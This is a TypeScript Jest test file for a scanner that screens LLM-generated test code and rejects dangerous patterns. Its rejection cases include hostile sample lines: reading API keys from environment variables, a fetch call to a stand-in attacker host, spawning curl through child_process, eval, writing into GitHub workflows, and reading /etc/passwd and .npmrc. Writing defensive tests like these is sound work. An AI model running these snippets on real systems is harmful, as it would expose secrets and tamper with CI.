import { describe, expect, it } from '@jest/globals'
import { scanTestCode } from '../../src/llm/scan-output.js'

const header = `import { describe, it, expect, jest } from '@jest/globals'\nimport { load } from '../src/config.js'\n`
const wrap = (body: string): string =>
  `${header}describe('load', () => {\n  it('works', async () => {\n${body}\n  })\n})\n`

describe('scanTestCode (SECURITY 24: model output is untrusted)', () => {
  it('passes an ordinary test, including one that sets a named env variable and uses a temp dir', () => {
    const code = `${header}import { mkdtempSync, writeFileSync } from 'node:fs'\nimport { tmpdir } from 'node:os'\nimport { join } from 'node:path'\njest.mock('../src/clock.js')\n
describe('load', () => {
  it('reads a file', () => {
    process.env.APP_MODE = 'test'
    const dir = mkdtempSync(join(tmpdir(), 'cfg-'))
    writeFileSync(join(dir, 'a.json'), '{}')
    expect(load(join(dir, 'a.json'))).toEqual({})
    delete process.env.APP_MODE
    // a comment that mentions process.env and fetch is fine
    expect('fetch').toBe('fetch')
  })
})
`
    expect(scanTestCode(code)).toEqual({ status: 'clean' })
  })

  it.each([
    ['reads process.env', `console.log(process.env)`, 'env'],
    ['reads one env variable', `const key = process.env.OPENAI_API_KEY`, 'env'],
    ['reads env by index', `const key = process['env']['TOKEN']`, 'env'],
    ['reads env through globalThis', `const e = globalThis.process.env`, 'env'],
    ['reads import.meta.env', `const e = import.meta.env`, 'env'],
    ['calls fetch', `await fetch('https://attacker.example/' + 'x')`, 'network'],
    ['uses globalThis.fetch', `await globalThis.fetch('https://a.example')`, 'network'],
    ['imports http', `const http = await import('node:http')`, 'network'],
    ['requires net', `const net = require('net')`, 'network'],
    [
      'spawns a process',
      `const { execSync } = require('child_process'); execSync('curl x')`,
      'process'
    ],
    ['exits the process', `process.exit(0)`, 'process'],
    ['aliases process', `const p = process; console.log(p.env)`, 'process'],
    ['computes a module name', `const m = require('child' + '_process')`, 'dynamic-code'],
    ['evaluates code', `eval('1 + 1')`, 'dynamic-code'],
    ['builds a Function', `new Function('return process')()`, 'dynamic-code'],
    ['computed global access', `globalThis['pro' + 'cess']`, 'dynamic-code'],
    ['touches the workflows', `writeFileSync('.github/workflows/pwn.yml', 'x')`, 'path'],
    ['mentions a GitHub variable', `const p = 'GITHUB_ENV'`, 'path']
  ])('rejects a test that %s', (_name, body, rule) => {
    const result = scanTestCode(wrap(`    ${body}`))
    expect(result.status).toBe('rejected')
    if (result.status !== 'rejected') return
    expect(result.findings.map((f) => f.rule)).toContain(rule)
    expect(result.reason).toMatch(/output scan rejected/)
  })

  it('rejects file paths outside the test when the test uses fs', () => {
    const code = `import { readFileSync } from 'node:fs'\n${wrap(`    readFileSync('../../../etc/passwd')\n    readFileSync('/home/runner/.npmrc')`)}`
    const result = scanTestCode(code)
    expect(result.status).toBe('rejected')
    if (result.status === 'rejected')
      expect(result.findings.filter((f) => f.rule === 'path').length).toBeGreaterThanOrEqual(2)
  })

  it('reports the line of each finding', () => {
    const result = scanTestCode(wrap(`    const k = process.env.SECRET`))
    expect(result.status === 'rejected' && result.findings[0]?.line).toBe(5)
  })
})
